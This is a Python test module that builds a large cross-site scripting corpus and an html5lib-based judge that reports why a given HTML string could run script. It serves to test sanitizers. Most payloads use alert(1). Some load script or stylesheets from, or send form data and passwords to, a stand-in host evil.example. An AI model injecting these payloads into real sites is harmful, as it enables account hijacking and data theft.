"""Strings that try to become script, and a judge that says whether they did.

Our own list, generated from the published families of evasion: tags × handlers × separators, schemes × encodings,
mutation through foreign content and raw-text elements, clobbering, Markdown constructs, attribute break-outs.
Every text that people or other systems can give us should be tried with it:

    from tests.gates.xss_corpus import CORPUS, dangers, new_dangers

`dangers(fragment)` for HTML that is nothing but user content; `new_dangers(page, harmless_page)` for a whole page,
compared with the same page made with a harmless text, because a page has scripts, forms and ids of its own.
"""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Iterator
from functools import lru_cache
from typing import Any, Final
from xml.etree.ElementTree import Element

from bleach._vendor import html5lib

SAFE_ID_PREFIX: Final = "user-content-"
SAFE_SCHEMES: Final = frozenset({"http", "https", "mailto", "tel"})

_CONTROLS: Final = frozenset(
    "form input button select option optgroup textarea fieldset output datalist keygen isindex label legend".split()
)
_ELEMENTS: Final = frozenset(
    "script style link meta base object embed applet param iframe frame frameset portal fencedframe"
    " svg noscript template slot xmp plaintext noembed noframes marquee bgsound dialog"
    " audio video source track canvas title head body html"
    " annotation-xml annotation semantics maction mglyph malignmark foreignobject image animate set use"
    " handler listener".split()
)
_ADDRESSES: Final = frozenset(
    "href src action formaction data poster background cite longdesc ping manifest codebase classid profile icon"
    " lowsrc dynsrc usemap archive from to values by".split()
)
_NEVER: Final = frozenset(
    {"style", "srcdoc", "srcset", "http-equiv", "name", "is", "contenteditable", "autofocus"}
)


def dangers(html: str) -> list[str]:
    """Every reason why this HTML may do something on its own; empty when it is only text and structure.

    Parsed as a browser would, with scripting on and off (that decides how `noscript` is read), never with
    regular expressions on the source.
    """
    found: list[str] = []
    for scripting in _ways_to_read(html):
        for element, where in _elements(html, scripting=scripting):
            for reason in _reasons(element, where):
                if reason not in found:
                    found.append(reason)
    return found


def new_dangers(html: str, harmless: str) -> list[str]:
    """The dangers in a whole page beyond those of the same page made with a harmless text.

    Counted, so that a second script in a page that has one is found.
    """
    found: list[str] = []
    for scripting in _ways_to_read(html):
        here = Counter(_all_reasons(html, scripting=scripting))
        here.subtract(_counted(harmless, scripting=scripting))
        found += [reason for reason, count in here.items() if count > 0 and reason not in found]
    return found


@lru_cache(maxsize=100)
def _counted(harmless: str, *, scripting: bool) -> Counter[str]:
    """Kept, since one harmless page is the measure for many others."""
    return Counter(_all_reasons(harmless, scripting=scripting))


def _ways_to_read(html: str) -> tuple[bool, ...]:
    """With scripting on and off; once where nothing depends on it. A parser asks for it at `noscript` only."""
    return (True, False) if "noscript" in html.lower() else (True,)


def _all_reasons(html: str, *, scripting: bool) -> Iterator[str]:
    for element, where in _elements(html, scripting=scripting):
        yield from _reasons(element, where)


def _elements(html: str, *, scripting: bool) -> Iterator[tuple[Element, str]]:
    """Every element and comment, with its name as it is known in its own namespace."""
    parser = html5lib.HTMLParser(tree=html5lib.getTreeBuilder("etree"), namespaceHTMLElements=True)
    text = re.sub("[\ud800-\udfff]", "\ufffd", html)  # what the encoder of a response would do
    if re.match(r"\s*<!doctype|\s*<html", text, re.IGNORECASE):
        root: Any = parser.parse(text, scripting=scripting)
    else:
        root = parser.parseFragment(text, container="div", scripting=scripting)
    in_page = not text.lstrip().lower().startswith(("<!doctype", "<html"))
    for element in root.iter():
        if not isinstance(element.tag, str):
            yield element, "#comment"
            continue
        name = element.tag.rpartition("}")[2].lower()
        if name == "document_fragment" or (not in_page and name in {"html", "head", "body", "title"}):
            continue
        yield element, name


def _reasons(element: Element, name: str) -> Iterator[str]:
    if name == "#comment":
        if "[if" in (element.text or ""):
            yield "a conditional comment"
        return
    if name in _CONTROLS:
        yield f"form control <{name}>"
    elif name in _ELEMENTS or ":" in name:
        yield f"element <{name}>"
    for key, value in element.attrib.items():
        yield from _attribute_reasons(name, key.rpartition("}")[2].lower(), str(value or ""))


def _attribute_reasons(tag: str, raw_key: str, value: str) -> Iterator[str]:
    key = raw_key.rpartition(":")[2] if raw_key.startswith(("xlink:", "xml:")) else raw_key
    if key.startswith("on") and len(key) > 2:
        yield f"handler {key} on <{tag}>"
    elif key in _NEVER:
        yield f"attribute {key} on <{tag}>"
    elif key.startswith(("hx-", "data-hx-", "x-on", "@", "v-", "ng-", "sse-", "ws-")):
        yield f"scripting attribute {key} on <{tag}>"
    elif key == "id" and not value.startswith(SAFE_ID_PREFIX):
        yield f"unprefixed id {value!r}"
    elif key in _ADDRESSES and not _is_safe_address(value):
        yield f"address {value!r} in {key} of <{tag}>"


def _is_safe_address(value: str) -> bool:
    # Everything that some browser has ever skipped in front of or inside a scheme.
    bare = re.sub(
        r"[\x00-\x20\x7f-\xa0\xad\u1680\u180e\u2000-\u200f\u2028-\u202f\u205f-\u206f\u3000\ufeff]", "", value
    )
    scheme = re.match(r"([^/?#]*?):", bare)
    if "\\" in bare:
        return False
    return scheme is None or scheme[1].lower() in SAFE_SCHEMES


# --- The families -------------------------------------------------------------------------------------

_JS: Final = "alert(1)"


def _script_elements() -> list[str]:
    return [
        f"<script>{_JS}</script>",
        f"<SCRIPT>{_JS}</SCRIPT>",
        f"<ScRiPt>{_JS}</sCrIpT>",
        f"<script >{_JS}</script >",
        f"<script\t>{_JS}</script\t>",
        f"<script\n>{_JS}</script\n>",
        f"<script\f>{_JS}</script\f>",
        f"<script/>{_JS}</script/>",
        f"<script/x>{_JS}</script/x>",
        f'<script x="y">{_JS}</script>',
        f"<script <script>{_JS}</script>",
        f"<scr<script>ipt>{_JS}</scr</script>ipt>",
        f"<<script>{_JS}//<</script>",
        f"<script>{_JS}",
        f"<script>{_JS}<!--",
        f"<script>{_JS}//",
        "<script src=//evil.example/x.js></script>",
        "<script src='https://evil.example/x.js'>",
        "<script src=data:text/javascript,alert(1)></script>",
        "<script/src=data:,alert(1)>",
        "<script type=module>import('//evil.example/x.js')</script>",
        f"<script type=text/vbscript>{_JS}</script>",
        f"<script type=speculationrules>{_JS}</script>",
        f"<script nonce=abc>{_JS}</script>",
        f"<script xmlns=http://www.w3.org/1999/xhtml>{_JS}</script>",
        f"<x:script xmlns:x=http://www.w3.org/1999/xhtml>{_JS}</x:script>",
        f"<b><script>{_JS}</script></b>",
        f"text <script>{_JS}</script> text",
        f"<script>/*</script><script>*/{_JS}</script>",
        f"<script><!--\n{_JS}\n--></script>",
        f"<script>//<![CDATA[\n{_JS}\n//]]></script>",
        f"</script><script>{_JS}</script>",
        f"<p><script>{_JS}</p></script>",
        f"<script>{_JS}</script",
        f"<script\x0b>{_JS}</script>",
        f"<script\x00>{_JS}</script>",
        f"<scr\x00ipt>{_JS}</scr\x00ipt>",
        f"\x00<script>{_JS}</script>",
        f"<\x00script>{_JS}</script>",
        f"<script>\u2028{_JS}</script>",
        f"<s\u0000cript>{_JS}</script>",
        f"<ſcript>{_JS}</ſcript>",
        f"<scrıpt>{_JS}</scrıpt>",
    ]


_HANDLER_TAGS: Final = (
    "a abbr address article audio b blockquote body br button canvas caption code col dd del details div dl embed em"
    " figure font form frameset h1 hr i iframe img input isindex kbd li link mark marquee math meter nav object ol p"
    " picture pre q section select span strong style sub summary svg table tbody td textarea th tr u ul video x-y"
).split()
_EVENTS: Final = (
    "onabort onafterprint onanimationend onanimationstart onauxclick onbeforeinput onbeforetoggle onbegin onblur"
    " oncanplay onclick onclose oncontextmenu oncopy oncut ondblclick ondrag ondrop onend onerror onfinish onfocus"
    " onfocusin onhashchange oninput oninvalid onkeydown onkeyup onload onloadstart onmessage onmousedown onmouseenter"
    " onmouseleave onmousemove onmouseover onmousewheel onpageshow onpaste onplay onpointerdown onpointerover"
    " onpointerrawupdate onpopstate onrepeat onresize onscroll onscrollend onsearch onsecuritypolicyviolation onselect"
    " onselectstart onshow onstart onsubmit ontoggle ontouchstart ontransitionend onunload onwheel onwebkitanimationend"
).split()


def _handlers() -> list[str]:
    """Every tag once and every event at least once."""
    quotes = ("{}", '"{}"', "'{}'", "`{}`")
    out = []
    for number in range(max(len(_HANDLER_TAGS), len(_EVENTS)) * 2):
        tag = _HANDLER_TAGS[number % len(_HANDLER_TAGS)]
        event = _EVENTS[(number * 7) % len(_EVENTS)]
        out.append(f"<{tag} {event}={quotes[number % 4].format(_JS)}>x</{tag}>")
    out += [
        f"<img src=x onerror={_JS}>",
        f"<svg onload={_JS}>",
        f"<body onload={_JS}>",
        f"<details open ontoggle={_JS}>",
        f"<video><source onerror={_JS}></video>",
        f"<audio src onerror={_JS}>",
        f"<input autofocus onfocus={_JS}>",
        f"<select autofocus onfocus={_JS}>",
        f"<textarea autofocus onfocus={_JS}>",
        f"<keygen autofocus onfocus={_JS}>",
        f"<div tabindex=0 autofocus onfocus={_JS}>",
        f"<x contenteditable autofocus onfocus={_JS} id=x>#x",
        f"<marquee loop=1 width=0 onfinish={_JS}>x</marquee>",
        f"<style onload={_JS}></style>",
        f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={_JS}></b>",
        f"<iframe onload={_JS}></iframe>",
        f"<object data=x onerror={_JS}></object>",
        f"<link rel=stylesheet href=x onerror={_JS}>",
        f"<img src=x ONERROR={_JS}>",
        f"<img src=x OnErRoR={_JS}>",
        f"<img src=x on\x00error={_JS}>",
        f"<img src=x onerror\x00={_JS}>",
        f"<img src=x onerror\x0b={_JS}>",
        f"<img src=x onerror =\n{_JS}>",
        f"<div popover onbeforetoggle={_JS} id=p></div><button popovertarget=p>x</button>",
        "<img src=x onerror=&#97;lert(1)>",
        "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#40;1&#41;>",
        "<img src=x onerror=\\u0061lert(1)>",
        "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
        "<img src=x onerror=location='javas'+'cript:alert(1)'>",
        "<img src=x onerror=import('//evil.example/')>",
        "<img src=x onerror=top[`al`+`ert`](1)>",
    ]
    return out


def _separators() -> list[str]:
    out = []
    for separator in (
        " ",
        "\t",
        "\n",
        "\r",
        "\r\n",
        "\f",
        "/",
        "//",
        " / ",
        "/ /",
        "\x0b ",
        "\xa0 ",
        "\x00 ",
        "  \t\n",
    ):
        out.append(f"<img{separator}src=x{separator}onerror={_JS}>")
        out.append(f"<svg{separator}onload={_JS}>")
    out += [
        f'<img src="x"onerror={_JS}>',
        f"<img src='x'onerror='{_JS}'>",
        f'<img """><img src=x onerror={_JS}>">',
        f'<img src="x` `<script>{_JS}</script>"` `>',
        f"<img src=x alt='><' onerror={_JS}>",
        f'<img src=x title="/" onerror="{_JS}">',
        f"<img src=x title=' onerror={_JS}>",
        f'<img src=x title=" onerror={_JS}>',
        f"<img src=x =onerror={_JS} onerror={_JS}>",
        f'<img ="" src=x onerror={_JS}>',
        f"<img '' src=x onerror={_JS}>",
        f'<img/"/src=x onerror={_JS}>',
        f"<img src=x onerror={_JS}//",
        f"<img src=x onerror={_JS}",
        f"<img src=x onerror={_JS} <b>",
        f"<img src=x <onerror={_JS}>",
        f"<img src=x onerror={_JS} onerror=x>",
        f"<img src=x a=1 a=2 onerror={_JS} a=3>",
        f'<img src=x onerror="{_JS}">',
        f"<a b='\"' onclick={_JS} c='\"'>x</a>",
        f"<a href='x' onclick='{_JS}' href='y'>x</a>",
        f'<a title="\'" onclick={_JS}>x</a>',
        f"< img src=x onerror={_JS}>",
        f"<\timg src=x onerror={_JS}>",
        f"<!<img src=x onerror={_JS}>",
        f"<?<img src=x onerror={_JS}>",
        f"</ <img src=x onerror={_JS}>",
        f"<//img src=x onerror={_JS}>",
        f"</p/x onclick={_JS}><p/x onclick={_JS}>x",
        f"<0 onclick={_JS}>",
        f"<-x onclick={_JS}>",
    ]
    return out


_SCHEMES: Final = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "\n\njavascript:alert(1)",
    "\x01javascript:alert(1)",
    "\x1fjavascript:alert(1)",
    "\x00javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\r\nscript:alert(1)",
    "java\x00script:alert(1)",
    "javascript\t:alert(1)",
    "javascript\n:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&colon;alert&lpar;1&rpar;",
    "&#106;avascript:alert(1)",
    "&#x6a;avascript:alert(1)",
    "&#x6A;avascript&#x3A;alert(1)",
    "&#0000106avascript:alert(1)",
    "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#97&#108&#101&#114&#116&#40&#49&#41",
    "&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a;alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "jav&#x0D;ascript:alert(1)",
    "&#1;javascript:alert(1)",
    "&#x1f;javascript:alert(1)",
    "&#14;  javascript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "javascript://%0d%0aalert(1)//https://example.org",
    "javascript:/*--></title></style></textarea></script>*/alert(1)",
    "javascript:void(0)?alert(1):1",
    "javascript:`${alert(1)}`",
    "javascript:alert(1)//http://example.org",
    "javascript&#58;alert(1)",
    "vbscript:msgbox(1)",
    "VbScRiPt:msgbox(1)",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "jscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "DaTa:text/html,x",
    "data:,x",
    "file:///etc/passwd",
    "blob:https://example.org/0",
    "filesystem:https://example.org/temporary/x",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "jar:https://example.org!/x",
    "about:blank",
    "chrome://settings",
    "intent://x#Intent;scheme=https;end",
    "ms-word:ofe|u|https://example.org/x.docm",
    "search-ms:query=x",
    "ftp://example.org/x",
    "ws://example.org/",
    "x:y",
    "\\\\evil.example\\share",
    "/\\evil.example",
    "https:\\evil.example",
    "https:evil.example",
    "http:/evil.example",
    "\u2028javascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "\xa0javascript:alert(1)",
    "\u3000javascript:alert(1)",
    "javascript\u200b:alert(1)",
    "javascript\uff1aalert(1)",
    "%6aavascript:alert(1)",
    "javascript%3aalert(1)",
]


def _schemes() -> list[str]:
    holders = (
        '<a href="{}">x</a>',
        "<a href='{}'>x</a>",
        '<img src="{}">',
        '<area href="{}">',
        '<iframe src="{}"></iframe>',
        '<form action="{}"><input type=submit></form>',
        '<button formaction="{}">x</button>',
        '<object data="{}"></object>',
        '<embed src="{}">',
        '<base href="{}">',
        '<link rel=stylesheet href="{}">',
        '<math href="{}">x</math>',
        '<math><mi xlink:href="{}">x</mi></math>',
        '<svg><a xlink:href="{}"><text>x</text></a></svg>',
        '<video poster="{}"></video>',
        '<blockquote cite="{}">x</blockquote>',
        '<body background="{}">',
        '<meta http-equiv=refresh content="0;url={}">',
    )
    out = []
    for number, scheme in enumerate(_SCHEMES):
        value = scheme.replace('"', "&quot;").replace("'", "&#39;") if "&" not in scheme else scheme
        out.append(holders[0].format(value))
        out.append(holders[1 + number % (len(holders) - 1)].format(value))
    # No quotes around the address.
    out += [f"<a href={scheme}>x</a>" for scheme in _SCHEMES[:3] + _SCHEMES[15:24]]
    out += [
        "<a href=javascript:alert(1) href=https://example.org>x</a>",
        "<a href=https://example.org href=javascript:alert(1)>x</a>",
        "<a HREF=javascript:alert(1)>x</a>",
        "<a href =javascript:alert(1)>x</a>",
        "<a\nhref\n=\njavascript:alert(1)>x</a>",
        "<a href=`javascript:alert(1)`>x</a>",
        "<a href='' ping=javascript:alert(1)>x</a>",
        "<img srcset='javascript:alert(1) 1x'>",
        "<img src=x longdesc=javascript:alert(1)>",
        "<img lowsrc=javascript:alert(1)>",
        "<img dynsrc=javascript:alert(1)>",
        "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;></iframe>",
        "<a href=javascript:alert(1)><img src=x></a>",
        "<a href='jav\nascript:alert(1)'>x</a>",
    ]
    return out


def _svg() -> list[str]:
    return [
        f"<svg><script>{_JS}</script></svg>",
        f"<svg><script href=data:,{_JS} /></svg>",
        f"<svg><script xlink:href=data:,{_JS}></script></svg>",
        "<svg><script>&#97;lert(1)</script></svg>",
        f"<svg><g onload={_JS}></g></svg>",
        f"<svg><a href=javascript:{_JS}><text y=20>x</text></a></svg>",
        f"<svg><a><animate attributeName=href values=javascript:{_JS} /><text y=20>x</text></a></svg>",
        f"<svg><a><set attributeName=href to=javascript:{_JS} /><text y=20>x</text></a></svg>",
        f"<svg><animate onbegin={_JS} attributeName=x dur=1s>",
        f"<svg><animatetransform onbegin={_JS}>",
        f"<svg><set onbegin={_JS} attributename=x>",
        f"<svg><discard onbegin={_JS}>",
        f"<svg><use href=\"data:image/svg+xml,<svg id='x'><image href='x' onerror='{_JS}'/></svg>#x\"></use></svg>",
        f"<svg><image href=x onerror={_JS} /></svg>",
        f"<svg><image xlink:href=javascript:{_JS} /></svg>",
        f"<svg><foreignObject><iframe srcdoc='<script>{_JS}</script>'></iframe></foreignObject></svg>",
        f"<svg><foreignObject><body onload={_JS}></foreignObject></svg>",
        f"<svg><style><img src=x onerror={_JS}></style></svg>",
        f"<svg><style>{{}}*{{xss:expression({_JS})}}</style></svg>",
        f"<svg><title><img src=x onerror={_JS}></title></svg>",
        f"<svg><desc><img src=x onerror={_JS}></desc></svg>",
        f"<svg><![CDATA[><img src=x onerror={_JS}>]]></svg>",
        f'<svg></p><style><a id="</style><img src=1 onerror={_JS}>">',
        f'<svg><p><style><a title="</style><img src onerror={_JS}>">',
        f"<svg><handler type=text/javascript ev:event=load>{_JS}</handler></svg>",
        f"<svg xmlns=http://www.w3.org/2000/svg onload={_JS} />",
        f"<svg/onload={_JS}//",
        f"<svg\nonload\n=\n{_JS}\n>",
        f"<svg id={_JS} onload=eval(id)>",
        f"<svg><filter><feImage xlink:href=javascript:{_JS} /></filter></svg>",
        f"<svg><a xml:base=javascript:{_JS}// href=#>x</a></svg>",
        f"<svg><switch><foreignObject><img src=x onerror={_JS}></foreignObject></switch></svg>",
        f"<image src=x onerror={_JS}>",
        f"<svg><font><img src=x onerror={_JS}>",
        f"<svg><mi><img src=x onerror={_JS}>",
    ]


def _mathml() -> list[str]:
    return [
        f"<math><mtext><script>{_JS}</script></mtext></math>",
        f"<math><mi onclick={_JS}>x</mi></math>",
        f"<math><mi href=javascript:{_JS}>x</mi></math>",
        f"<math href=javascript:{_JS}>x</math>",
        f"<math><maction actiontype=statusline xlink:href=javascript:{_JS}>x<mtext>y</mtext></maction></math>",
        f"<math><annotation-xml encoding=text/html><img src=x onerror={_JS}></annotation-xml></math>",
        f"<math><annotation-xml encoding=application/xhtml+xml><script>{_JS}</script></annotation-xml></math>",
        f"<math><annotation-xml><svg onload={_JS}></annotation-xml></math>",
        f"<math><semantics><annotation encoding=text/html><img src=x onerror={_JS}></annotation></semantics></math>",
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_JS}&gt;">',
        f"<math><mtext><table><mglyph><style><math><img src onerror={_JS}>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_JS}>",
        f"<math><mtext><mglyph><style><img src=x onerror={_JS}></style></mglyph></mtext></math>",
        f"<math><mtext><malignmark><style><img src=x onerror={_JS}></style>",
        f"<math><mi><style><img src=x onerror={_JS}></style></mi></math>",
        f"<math><style><img src=x onerror={_JS}></style></math>",
        f"<math><mo><xmp><img src=x onerror={_JS}></xmp></mo></math>",
        f"<math><mtext><noscript><img src=x onerror={_JS}></noscript></mtext></math>",
        f"<math><mtext><p><style><!--</style><img src=x onerror={_JS}>--></p></mtext></math>",
        f"<math><![CDATA[<img src=x onerror={_JS}>]]></math>",
        f"<math><![CDATA[</math><img src=x onerror={_JS}>]]>",
        f"<math><mtext></math><img src=x onerror={_JS}>",
        f"<math><p><img src=x onerror={_JS}></math>",
        f"<math><!--</math><img src=x onerror={_JS}>--></math>",
        f"<math><mn style=background:url(javascript:{_JS})>1</mn></math>",
        "<math><mrow id=location name=forms>x</mrow></math>",
        f"<math><msup><mi>x</mi><mn><iframe src=javascript:{_JS}></iframe></mn></msup></math>",
        f"<math><mtable><mtr><mtd><table><td><img src=x onerror={_JS}></table></mtd></mtr></mtable></math>",
        f"<math><ms lquote='<img src=x onerror={_JS}>'>x</ms><img src=x onerror={_JS}></math>",
        f"<math xmlns=http://www.w3.org/1999/xhtml><script>{_JS}</script></math>",
        f"<math><a xlink:href=javascript:{_JS}>x</a></math>",
        f"<math><font color=x><img src=x onerror={_JS}></font></math>",
        f"<math><mi><font><img src=x onerror={_JS}>",
        f"<math><mtext><a><table><a><math><mi><style><img src=x onerror={_JS}>",
    ]


def _mutations() -> list[str]:
    image = f"<img src=x onerror={_JS}>"
    raw_text = (
        "noscript",
        "style",
        "xmp",
        "noembed",
        "noframes",
        "iframe",
        "title",
        "textarea",
        "template",
        "plaintext",
    )
    out = []
    for name in raw_text:
        out.append(f'<{name}><p title="</{name}>{image}">')
        out.append(f"<{name}>{image}</{name}>")
        out.append(f"<{name}><!--</{name}>{image}--></{name}>")
        out.append(f'<svg><{name}><a title="</{name}>{image}">')
        out.append(f'<math><mtext><{name}><b title="</{name}>{image}">')
    out += [
        f"<!--><img src=x onerror={_JS}>-->",
        f"<!---><img src=x onerror={_JS}>-->",
        f"<!----><img src=x onerror={_JS}>",
        f"<!-- --!><img src=x onerror={_JS}>-->",
        f"<!-- <!-- --><img src=x onerror={_JS}>-->",
        f"<!--[if IE]><script>{_JS}</script><![endif]-->",
        f"<![if true]><img src=x onerror={_JS}><![endif]>",
        f"<![CDATA[<img src=x onerror={_JS}>]]>",
        f"<![CDATA[--><img src=x onerror={_JS}>",
        f"<?xml version=1.0?><img src=x onerror={_JS}>",
        f"<?php ?><img src=x onerror={_JS}>",
        f'<!DOCTYPE x [<!ENTITY y "<img src=x onerror={_JS}>">]>&y;',
        f"<!x title='>'><img src=x onerror={_JS}>",
        f"</br title='>'><img src=x onerror={_JS}>",
        f"<select><style></select><img src=x onerror={_JS}></style>",
        f"<select><template><style></select><img src=x onerror={_JS}>",
        f"<select><option><xmp></select><img src=x onerror={_JS}></xmp>",
        f"<table><style></table><img src=x onerror={_JS}></style>",
        f"<table><td><svg><td><style><img src=x onerror={_JS}>",
        f"<table><caption><svg><table><style><img src=x onerror={_JS}>",
        f"<table><tr><img src=x onerror={_JS}></tr></table>",
        f"<table><a href=javascript:{_JS}>x<td></a></table>",
        f"<a><table><a onclick={_JS}>x</table></a>",
        f"<p><a><p onclick={_JS}>x</a></p>",
        f"<b><p><i onclick={_JS}></b>x</i></p>",
        f"<frameset><frame src=javascript:{_JS}></frameset>",
        f"<button><button onclick={_JS}>x</button></button>",
        f"<form id=a><form><input onfocus={_JS} autofocus></form></form>",
        f"<option><style></option></select><img src=x onerror={_JS}></style>",
        f"<listing>&lt;img src=x onerror={_JS}&gt;</listing><img src=x onerror={_JS}>",
        f"<pre>\n<img src=x onerror={_JS}></pre>",
        f"<nobr><nobr onclick={_JS}><nobr>x",
        f"<ruby><rtc><rt onclick={_JS}>x",
        f"<div><div><div><svg><desc><table><desc onclick={_JS}>",
        "<x" * 50 + f" onclick={_JS}>" * 3,
        "<b>" * 120 + f"<img src=x onerror={_JS}>",
        "<p title=1><b title=2>" * 15 + f"<i onclick={_JS}>",
        f"<isindex type=image src=x onerror={_JS}>",
        f'<a title="`<b onclick={_JS}>`"><b onclick={_JS}>x',
        f'<img alt="`><script>{_JS}</script>"src=x:x onerror={_JS}>',
        f'<div title="&quot;><img src=x onerror={_JS}>"></div><q onclick={_JS}>',
    ]
    return out


def _clobbering() -> list[str]:
    names = (
        "location",
        "document",
        "forms",
        "cookie",
        "body",
        "__proto__",
        "constructor",
        "csrfmiddlewaretoken",
        "htmx",
    )
    out = [f"<b id={name}>x</b>" for name in names]
    out += [f"<img name={name} src=x>" for name in names]
    out += [
        "<a id=x><a id=x name=y href=https://evil.example>x</a></a>",
        "<form id=config><input name=url value=//evil.example></form>",
        "<form name=body><input name=firstChild></form>",
        "<b id='user-content'>x</b>",
        "<b id=' user-content-x'>x</b>",
        "<b id=USER-CONTENT-X>x</b>",
        "<b id='x' id='user-content-x'>x</b>",
        "<h2 id=main>x</h2>",
        "<b id='a b'>x</b>",
        "<b id='\"><img src=x onerror=alert(1)>'>x</b>",
        "<b id=&#108;ocation>x</b>",
        "<label for=id_password>x</label>",
        "<input form=login name=next value=//evil.example>",
        "<button form=login formaction=//evil.example>x</button>",
        "<output id=x name=y>z</output>",
        "<iframe name=location src=about:blank></iframe>",
        "<object id=location data=about:blank></object>",
        "<embed name=location src=about:blank>",
    ]
    return out


def _documents() -> list[str]:
    return [
        "<base href=//evil.example/>",
        "<base target=_blank href=javascript:/a/>",
        f"<base href=javascript:/a/><a href=/{_JS}>x</a>",
        "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
        "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>",
        "<META HTTP-EQUIV=ReFresh CONTENT='0 ;URL=http://evil.example'>",
        "<meta http-equiv=Set-Cookie content=sessionid=1>",
        "<meta http-equiv=Content-Security-Policy content=script-src&#32;*>",
        "<meta charset=utf-7>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<link rel=import href=//evil.example/x>",
        "<link rel=prefetch href=//evil.example/x>",
        "<link rel=icon href=javascript:alert(1)>",
        "<link rel=manifest href=data:,{}>",
        "<object data=javascript:alert(1)></object>",
        "<object type=text/html data=//evil.example></object>",
        "<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert(1)></object>",
        "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
        "<embed src=javascript:alert(1)>",
        "<embed src=//evil.example/x.swf allowscriptaccess=always>",
        "<embed code=//evil.example/x.swf>",
        "<applet code=javascript:alert(1)>",
        "<applet archive=//evil.example/x.jar code=X></applet>",
        "<iframe src=//evil.example></iframe>",
        "<iframe src=javascript:alert(1)>",
        "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
        "<frame src=javascript:alert(1)>",
        "<portal src=//evil.example></portal>",
        "<fencedframe src=//evil.example></fencedframe>",
        "<html onload=alert(1)>",
        "<body background=javascript:alert(1)>",
        "<body onpageshow=alert(1)>",
        "<bgsound src=javascript:alert(1)>",
        "<layer src=//evil.example></layer>",
        "<template><img src=x onerror=alert(1)></template>",
        "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
        "<div><template shadowrootmode=open><slot onslotchange=alert(1)></slot></template>x</div>",
        "<dialog open><form method=dialog><button>x</button></form></dialog>",
        "<noscript><meta http-equiv=refresh content=0;url=//evil.example></noscript>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<video src=x onerror=alert(1)></video>",
        "<canvas onclick=alert(1)></canvas>",
        "<form action=//evil.example><input name=password type=password><button>x</button></form>",
        "<textarea name=x></textarea><select name=y><option>z</select>",
        "<input type=image src=x onerror=alert(1)>",
        "<button type=submit formaction=javascript:alert(1)>x</button>",
    ]


def _styles() -> list[str]:
    return [
        "<style>@import '//evil.example/x.css';</style>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<style>*{-moz-binding:url(//evil.example/x.xml#x)}</style>",
        "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
        "<style>@keyframes x{}</style><b style=animation-name:x onanimationend=alert(1)>x</b>",
        "<STYLE type=text/javascript>alert(1);</STYLE>",
        "<style><!--</style><script>alert(1)//--></script>",
        "<style></style\t><img src=x onerror=alert(1)>",
        "<style></style/x><img src=x onerror=alert(1)>",
        "<style><b title='</style><img src=x onerror=alert(1)>'>",
        "<b style=xss:expression(alert(1))>x</b>",
        "<b style='xss:expr/**/ession(alert(1))'>x</b>",
        "<b style='x\\78 ss:e\\78pression(alert(1))'>x</b>",
        "<b style='background:url(javascript:alert(1))'>x</b>",
        "<b style=\"background:u&#x72;l('javascript:alert(1)')\">x</b>",
        "<b style='behavior:url(x.htc)'>x</b>",
        "<b style='-moz-binding:url(//evil.example/x.xml#x)'>x</b>",
        "<b STYLE='position:fixed;inset:0;z-index:9999'>x</b>",
        "<a style=position:fixed;top:0;left:0;width:100%;height:100% href=//evil.example>x</a>",
        "<b style=width:expression&#40;alert(1)&#41;>x</b>",
        "<b style='list-style-image:url(\"javascript:alert(1)\")'>x</b>",
        "<div style=\"content:'</div><script>alert(1)</script>'\">x</div>",
        "<p style>x</p>",
        "<p style=''>x</p>",
        "<p style\x00=x>x</p>",
        "<link rel=stylesheet href=data:text/css,*{x:expression(alert(1))}>",
        "<table style='x' background=javascript:alert(1)>",
        "<font style=x color=x>y</font>",
        "<span style='font-size:9999px;color:transparent;opacity:0'>x</span>",
    ]


def _encodings() -> list[str]:
    return [
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&#x3c;img src=x onerror=alert(1)&#x3e;",
        "&#x0003c;img src=x onerror=alert(1)>",
        "&lt<img src=x onerror=alert(1)>",
        "&ltimg src=x onerror=alert(1)&gt",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "%253Cscript%253Ealert(1)%253C/script%253E",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
